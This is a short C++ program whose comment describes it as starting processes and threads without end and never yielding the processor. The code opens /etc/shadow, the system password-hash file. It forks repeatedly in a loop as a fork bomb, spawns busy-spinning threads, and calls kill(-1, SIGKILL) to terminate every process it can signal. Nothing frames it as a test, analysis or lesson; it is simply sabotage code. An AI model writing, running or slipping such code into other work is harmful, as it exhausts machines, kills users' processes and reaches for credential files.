#include <csignal>
#include <fstream>
#include <thread>
#include <unistd.h>
#include <vector>

// Looks around, starts processes and threads without end, and never gives its processor back.
int main() {
    std::ifstream secrets("/etc/shadow");
    std::vector<std::thread> others;
    for (int i = 0; i < 40; i++) {
        fork();
        others.emplace_back([] { for (volatile int turn = 0;;) turn = !turn; });
    }
    kill(-1, SIGKILL);
    others.front().join();
}
